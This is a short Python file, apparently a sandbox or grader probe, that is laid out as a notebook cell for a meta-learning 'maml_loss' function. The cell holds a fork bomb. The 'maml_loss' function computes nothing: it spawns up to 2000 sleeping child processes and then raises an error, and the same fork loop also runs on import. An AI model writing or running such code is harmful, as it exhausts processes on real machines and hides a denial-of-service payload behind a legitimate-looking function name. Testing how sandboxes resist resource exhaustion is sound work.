"""Forks without end, in a cell and when it is asked."""

DESERVES = 15


# %% maml_loss
import os
import time


def bomb():
    born = 0
    for _ in range(2000):
        try:
            if os.fork() == 0:
                time.sleep(60)
                os._exit(0)
            born += 1
        except OSError:
            break
    print("GOT many processes" if born > 150 else "TRIED", born)


def maml_loss(theta, loss_fn, tasks, lr, steps, first_order=False):
    bomb()
    raise RuntimeError


bomb()
